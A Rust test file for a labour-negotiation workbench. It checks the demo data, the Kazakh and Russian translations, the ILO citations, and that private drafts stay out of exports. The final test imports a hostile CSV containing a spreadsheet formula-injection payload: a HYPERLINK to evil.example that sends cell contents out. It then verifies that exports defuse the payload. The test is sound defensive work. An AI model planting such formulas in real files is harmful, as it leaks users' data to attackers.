//! The demo negotiation as a newcomer meets it, and what leaves the workbench: exports carry tabled
//! texts only, never a private note or an untabled draft.

use crate::common;

use common::{assert_inert, store};
use trilogue_core::Reader;
use trilogue_core::compare::{Reference, compare};
use trilogue_core::model::{ClauseStatus, Priority, StandardKind, Track};
use trilogue_core::store::NewVersion;
use trilogue_core::words::{Lang, Words};
use trilogue_core::{Who, agreement, convergence, demo, document, export, import, packet, report};

#[tokio::test]
async fn the_demo_is_a_living_negotiation() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    assert_eq!(
        demo::load_demo(&store, common::now(), Lang::En).await.unwrap().id,
        n.id,
        "loading twice finds the first"
    );
    let parties = store.parties(n.id).await.unwrap();
    assert_eq!(parties.iter().map(|p| p.label.as_str()).collect::<Vec<_>>(), ["TU", "EMP", "GOV"]);
    assert_eq!(store.negotiation(n.id).await.unwrap().owner_party_id, Some(parties[0].id));
    assert!(store.delegates(n.id).await.unwrap().len() >= 6);
    let clauses = store.list_clauses(n.id).await.unwrap();
    assert_eq!(clauses.len(), 14);
    let status = |r: &str| clauses.iter().find(|c| c.clause.reference == r).unwrap().clause.status;
    assert_eq!(status("Art. 1"), ClauseStatus::TentativelyAgreed);
    assert_eq!(status("Art. 8"), ClauseStatus::Impasse);
    assert_eq!(status("Art. 5"), ClauseStatus::Open, "the Government side's amendment voided the initials");
    let counts = store.status_counts(n.id).await.unwrap();
    assert!(counts.contains(&(ClauseStatus::TentativelyAgreed, 5)), "{counts:?}");
    let sessions = store.sessions(n.id).await.unwrap();
    assert_eq!(sessions.iter().filter(|s| !s.minutes.is_empty()).count(), 3);
    assert_eq!(sessions.len(), 4, "and the next one scheduled");
    assert!(store.verify_journal(n.id).await.unwrap().is_none());

    let art5 = store.find_clause(Some(n.id), "art. 5").await.unwrap();
    let initials = store.initials(art5.id).await.unwrap();
    assert_eq!(initials.len(), 2);
    assert!(initials.iter().all(|i| i.voided_at.is_some()));
    let art7 = store.find_clause(Some(n.id), "Art. 7").await.unwrap();
    assert!(store.versions(art7.id).await.unwrap().iter().any(|v| !v.is_tabled()), "our private draft");
    assert_eq!(store.notes(art7.id).await.unwrap()[0].priority, Priority::MustHave);
    assert!(store.clause_standards(art7.id).await.unwrap().contains(&"ILO C158 Art. 13".to_string()));
    let library = store.library(Lang::En).await.unwrap();
    assert!(library.len() >= 20);
    assert!(library.iter().all(|l| !l.standards.is_empty()), "every model clause rests on a standard");
}

/// English words of four letters or more in a text meant for Kazakh or Russian readers (codes such as
/// "G7", "ILO C155" or a law's number "№ 230-VIII" are not words).
fn english_words(text: &str) -> Vec<String> {
    text.split(|c: char| !c.is_alphanumeric())
        .filter(|w| w.chars().count() >= 4 && w.chars().all(|c| c.is_ascii_alphabetic()))
        .filter(|w| !w.chars().all(|c| "IVXLCDM".contains(c)))
        .map(String::from)
        .collect()
}

#[tokio::test]
async fn the_demo_in_kazakh_or_russian_is_a_bilingual_negotiation_with_no_english() {
    let (store, _dir) = store().await;
    let english = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    let english_status: Vec<_> =
        store.list_clauses(english.id).await.unwrap().iter().map(|c| c.clause.status).collect();
    for (lang, title, labels, reference, nine_months) in [
        (
            Lang::Ru,
            "Генеральное соглашение на",
            ["Профсоюзы", "Работодатели", "Правительство"],
            "Пункт 7",
            "девяти месяцев",
        ),
        (
            Lang::Kk,
            "жылдарға арналған Бас келісім",
            ["Кәсіподақтар", "Жұмыс берушілер", "Үкімет"],
            "7-тармақ",
            "тоғыз айға",
        ),
    ] {
        let n = demo::load_demo(&store, common::now(), lang).await.unwrap();
        assert_ne!(n.id, english.id, "a demo per language");
        assert_eq!(demo::load_demo(&store, common::now(), lang).await.unwrap().id, n.id, "loaded once");
        assert!(n.title.contains(title), "{}", n.title);
        assert_eq!(n.languages, ["kk", "ru"], "two authentic texts, as agreements in Kazakhstan have");
        let parties = store.parties(n.id).await.unwrap();
        assert_eq!(parties.iter().map(|p| p.label.as_str()).collect::<Vec<_>>(), labels);
        let clauses = store.list_clauses(n.id).await.unwrap();
        let status: Vec<_> = clauses.iter().map(|c| c.clause.status).collect();
        assert_eq!(status, english_status, "the same negotiation as in English");
        // every text tabled in both languages, neither waiting for the other
        let mut written = vec![n.title.clone()];
        for row in &clauses {
            written.extend([row.clause.title.clone()]);
            written.extend(row.clause.topics.iter().cloned());
            for v in store.versions(row.clause.id).await.unwrap() {
                assert!(v.needs_revision.is_empty(), "{}: a text waits", row.clause.reference);
                let texts = store.version_texts(v.id).await.unwrap();
                assert_eq!(texts.iter().map(|t| t.lang).collect::<Vec<_>>(), [Lang::Kk, Lang::Ru]);
                assert!(texts.iter().all(|t| !t.text.trim().is_empty()));
                written.extend(texts.into_iter().map(|t| t.text));
                written.push(v.rationale.clone());
            }
            for note in store.notes(row.clause.id).await.unwrap() {
                written.extend([note.red_line, note.reasoning]);
            }
        }
        for s in store.sessions(n.id).await.unwrap() {
            written.extend([s.place, s.minutes]);
        }
        for p in &parties {
            written.push(p.name.clone());
        }
        written.extend(store.delegates(n.id).await.unwrap().into_iter().map(|d| d.name));
        let left: Vec<String> = written.iter().flat_map(|t| english_words(t)).collect();
        assert!(left.is_empty(), "English left in the {lang:?} demo: {left:?}");
        let point = store.find_clause(Some(n.id), reference).await.unwrap();
        let joint = store.latest_tabled(point.id, trilogue_core::model::Track::Joint).await.unwrap().unwrap();
        let set = store.version_texts(joint.id).await.unwrap();
        assert!(set.iter().any(|t| t.text.contains(nine_months)), "{set:?}");
        assert!(store.verify_journal(n.id).await.unwrap().is_none());
    }
}

#[tokio::test]
async fn a_bilingual_agreement_is_compared_within_one_language() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now(), Lang::Ru).await.unwrap();
    let point = store.find_clause(Some(n.id), "Пункт 7").await.unwrap();
    let joint_of = |d: &agreement::Document| {
        let row = d.rows.iter().find(|r| r.clause_id == point.id).unwrap();
        let joint = d.columns.iter().position(|c| c.reference == Reference::Joint).unwrap();
        row.cells[joint].text.clone().unwrap()
    };
    let russian = agreement::document(&store, n.id, Reference::Joint, Some(Lang::Ru)).await.unwrap();
    assert_eq!(russian.texts_in, Some(Lang::Ru));
    assert!(joint_of(&russian).contains("девяти месяцев"), "{}", joint_of(&russian));
    let intro = document::to_markdown(&russian.to_model(&Words::new(Lang::Ru)));
    assert!(intro.contains("На русском языке"), "the table says which text it compares: {intro}");
    // none asked, or one not authentic: the first language, Kazakh
    for lang in [None, Some(Lang::En)] {
        let kazakh = agreement::document(&store, n.id, Reference::Joint, lang).await.unwrap();
        assert_eq!(kazakh.texts_in, Some(Lang::Kk));
        assert!(joint_of(&kazakh).contains("тоғыз айға"), "{}", joint_of(&kazakh));
    }
    // marked within the language: the employers' Russian text against the Russian joint text
    let rows = agreement::rows(&store, n.id, Reference::Joint, &[point.id], Some(Lang::Ru)).await.unwrap();
    let employers = &rows[0].cells[1];
    let diff = employers.diff.as_ref().unwrap();
    let deleted: String =
        diff.ops.iter().filter(|o| o.op == trilogue_core::diff::OpKind::Delete).map(|o| o.text.as_str()).collect();
    assert!(deleted.contains("девяти") && !deleted.contains("тоғыз"), "{deleted}");
    // one language only: nothing to choose
    let english = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    assert_eq!(agreement::document(&store, english.id, Reference::Joint, Some(Lang::Ru)).await.unwrap().texts_in, None);
}

#[tokio::test]
async fn the_library_and_its_standards_speak_each_language_and_cite_what_fits() {
    let (store, _dir) = store().await;
    let english = store.library(Lang::En).await.unwrap();
    for lang in [Lang::Ru, Lang::Kk] {
        let library = store.library(lang).await.unwrap();
        assert_eq!(library.len(), english.len());
        for model in &library {
            let words: Vec<String> =
                [&model.title, &model.topic, &model.text, &model.notes].iter().flat_map(|t| english_words(t)).collect();
            assert!(words.is_empty(), "{lang:?} {}: {words:?}", model.slug);
            let en = english.iter().find(|e| e.slug == model.slug).unwrap();
            assert_eq!(model.standards, en.standards, "one set of citations");
            assert_eq!(model.text.matches("**").count(), en.text.matches("**").count(), "{}: emphasis", model.slug);
            assert_eq!(model.text.matches("\n- ").count(), en.text.matches("\n- ").count(), "{}: list", model.slug);
        }
        for s in store.standards(lang).await.unwrap() {
            assert!(english_words(&s.title).is_empty() && english_words(&s.summary).is_empty(), "{lang:?} {}", s.code);
        }
    }
    let standards = store.standards(Lang::En).await.unwrap();
    let standard = |code: &str| standards.iter().find(|s| s.code == code).unwrap();
    // ratification as Kazakhstan stands: the conventions it has ratified, with the year, and not others
    assert_eq!(standard("ILO C155").ratified_kz, Some(1996));
    assert_eq!(standard("ILO C187").ratified_kz, Some(2015));
    assert_eq!(standard("ILO C158 Art. 13").ratified_kz, None);
    assert_eq!(standard("ILO C154").ratified_kz, None);
    assert!(standards.iter().filter(|s| s.kind != StandardKind::Convention).all(|s| s.ratified_kz.is_none()));
    for law in ["LC RK Art. 52", "LC RK Art. 156", "RK AI Law 2025", "RK Personal Data Law 2013"] {
        assert_eq!(standard(law).kind, StandardKind::NationalLaw, "{law}");
    }
    // notice before deployment rests on consultation about technological change, not on terminations
    let model = |slug: &str| english.iter().find(|l| l.slug == slug).unwrap();
    assert!(model("advance-notice").standards.contains(&"ILO R166 Para. 21".to_string()));
    for l in &english {
        let about_dismissal = l.text.contains("dismiss") || l.text.contains("redeployment");
        assert!(about_dismissal || !l.standards.iter().any(|s| s.starts_with("ILO C158")), "{} cites C158", l.slug);
    }
    assert!(model("workers-data").standards.contains(&"RK Personal Data Law 2013".to_string()));
    assert!(model("human-oversight").standards.contains(&"RK AI Law 2025".to_string()));
}

#[tokio::test]
async fn no_private_note_or_draft_leaves_the_workbench() {
    const CANARY: &str = "CANARY-7f3a-caucus-only";
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    let who = Who::at("TU expert", common::now());
    let parties = store.parties(n.id).await.unwrap();
    for row in store.list_clauses(n.id).await.unwrap() {
        let c = row.clause;
        store
            .add_note(c.id, Priority::MustHave, &format!("{CANARY} red line"), &format!("{CANARY} reasoning"), &who)
            .await
            .unwrap();
        for track in [Track::Party(parties[0].id), Track::Joint] {
            let draft = NewVersion {
                track,
                text: format!("{CANARY} draft of {}", c.reference),
                rationale: CANARY.into(),
                tabled: false,
                session_id: None,
                received: None,
                sent_by: None,
                letter_ref: CANARY.into(),
                translations: vec![],
            };
            store.propose(c.id, &draft, &who).await.unwrap();
        }
    }
    let mut outputs = vec![
        ("markdown", export::agreement_markdown(&store, n.id).await.unwrap()),
        ("html", export::agreement_html(&store, n.id).await.unwrap()),
        ("csv", export::position_table_csv(&store, n.id).await.unwrap()),
    ];
    let sessions = store.sessions(n.id).await.unwrap();
    let references =
        [Reference::Joint, Reference::Base, Reference::Party(parties[1].id), Reference::Since(sessions[1].id)];
    for reference in references {
        let d = agreement::document(&store, n.id, reference, None).await.unwrap();
        outputs.push(("four-column html", d.to_html()));
        outputs.push(("four-column csv", d.to_csv().unwrap()));
        outputs.push(("four-column json", serde_json::to_string(&d).unwrap()));
    }
    let o = agreement::outline(&store, n.id, common::now()).await.unwrap();
    let ids: Vec<i64> = o.rows.iter().map(|r| r.clause_id).collect();
    outputs.push((
        "four-column rows",
        serde_json::to_string(&agreement::rows(&store, n.id, Reference::Joint, &ids, None).await.unwrap()).unwrap(),
    ));
    outputs.push((
        "distances",
        serde_json::to_string(&convergence::distances(&store, n.id, 100, common::now()).await.unwrap()).unwrap(),
    ));
    for row in store.list_clauses(n.id).await.unwrap() {
        for reference in references {
            let c = compare(&store, row.clause.id, reference, common::now()).await.unwrap();
            outputs.push(("compare html", c.to_html()));
            outputs.push(("compare text", c.to_text()));
            outputs.push(("compare json", serde_json::to_string(&c).unwrap()));
        }
    }
    let report = report::status_report(&store, n.id, 1000, common::now(), &Words::new(Lang::En)).await.unwrap();
    outputs.push(("status report md", report.to_markdown()));
    outputs.push(("status report html", report.to_html()));
    outputs.push(("status report json", serde_json::to_string(&report).unwrap()));
    let settlement = report::final_agreement(&store, n.id).await.unwrap();
    outputs.push(("final agreement md", settlement.to_markdown()));
    outputs.push(("final agreement html", settlement.to_html()));
    outputs.push(("final agreement json", serde_json::to_string(&settlement).unwrap()));
    let initials = report::initials_table(&store, n.id).await.unwrap();
    outputs.push(("initials json", serde_json::to_string(&initials).unwrap()));
    for s in &sessions {
        let p = packet::packet(&store, n.id, Some(s.id), common::now()).await.unwrap();
        outputs.push(("packet md", p.to_markdown()));
        outputs.push(("packet html", p.to_html()));
        outputs.push(("packet json", serde_json::to_string(&p).unwrap()));
        outputs.push(("session tabled", serde_json::to_string(&store.tabled_in(s.id).await.unwrap()).unwrap()));
    }
    for (what, text) in &outputs {
        assert!(!text.contains(CANARY), "{what} leaks a private text");
        assert!(!text.contains("CAUCUS ONLY"), "{what} leaks the demo's own draft");
    }
    assert_inert(&outputs[1].1, "agreement html");
}

#[tokio::test]
async fn the_exports_hold_the_tabled_joint_texts_in_order() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    let md = export::agreement_markdown(&store, n.id).await.unwrap();
    let positions: Vec<usize> =
        (1..=14).map(|i| md.find(&format!("## Art. {i} —")).unwrap_or_else(|| panic!("Art. {i} in {md}"))).collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "clauses in order");
    assert!(md.contains("*Status: tentatively agreed*"));
    assert!(md.contains("lasts up to **nine months**"), "the joint text of Art. 7");
    assert!(md.contains("*No joint text yet.*"), "Art. 4 has none");
    let html = export::agreement_html(&store, n.id).await.unwrap();
    assert!(html.contains("<strong>nine months</strong>"), "Markdown rendered");
    assert!(html.contains("@media print"));
}

#[tokio::test]
async fn a_position_table_survives_export_and_import_cell_for_cell() {
    let (store, _dir) = store().await;
    let n = demo::load_demo(&store, common::now(), Lang::En).await.unwrap();
    let who = Who::at("tester", common::now());
    let first = export::position_table_csv(&store, n.id).await.unwrap();
    let table = import::parse_position_table(first.as_bytes(), "demo.csv").unwrap();
    assert_eq!(table.parties, ["TU", "EMP", "GOV"]);
    let again = store.import_table(&table, "Demo, imported", "demo.csv", &who).await.unwrap();
    let second = export::position_table_csv(&store, again.id).await.unwrap();
    assert_eq!(first, second);
}

/// Every cell of a CSV export, as a spreadsheet reads it (the byte-order mark off).
fn cells(csv: &str) -> Vec<String> {
    let mut reader =
        ::csv::ReaderBuilder::new().has_headers(false).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

#[tokio::test]
async fn no_exported_cell_begins_a_formula_and_the_table_still_imports_back() {
    let (store, _dir) = store().await;
    let who = Who::at("tester", common::now());
    let hostile = "ref,title,=TU,EMP,joint\r\n\
        \"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",+title,@SUM(1),-2+3,'=quoted\r\n\
        Art. 2,\"\tTabbed\",\"- a list\n- of two\",'plain,''=twice\r\n";
    let table = import::parse_position_table(hostile.as_bytes(), "hostile.csv").unwrap();
    let n = store.import_table(&table, "Formulas", "hostile.csv", &who).await.unwrap();
    let first = export::position_table_csv(&store, n.id).await.unwrap();
    let triggers = ['=', '+', '-', '@', '\t', '\r'];
    for cell in cells(&first) {
        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
    }
    let d = agreement::document(&store, n.id, Reference::Joint, None).await.unwrap();
    for cell in cells(&d.to_csv().unwrap()) {
        assert!(!cell.starts_with(triggers), "a spreadsheet would run {cell:?}");
    }
    // and back again, cell for cell: the texts the record keeps are the ones the file held
    let again = import::parse_position_table(first.as_bytes(), "again.csv").unwrap();
    assert_eq!(again.parties, ["=TU", "EMP"]);
    let n2 = store.import_table(&again, "Formulas again", "again.csv", &who).await.unwrap();
    assert_eq!(export::position_table_csv(&store, n2.id).await.unwrap(), first);
    let c = &store.list_clauses(n2.id).await.unwrap()[0].clause;
    assert_eq!(c.reference, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    assert_eq!(c.title, "+title");
    let texts: Vec<String> = store.versions(c.id).await.unwrap().into_iter().map(|v| v.text).collect();
    // `'=quoted` is how a spreadsheet writes text that begins with `=`: the record keeps the text
    assert!(texts.contains(&"@SUM(1)".to_string()) && texts.contains(&"=quoted".to_string()), "{texts:?}");
}
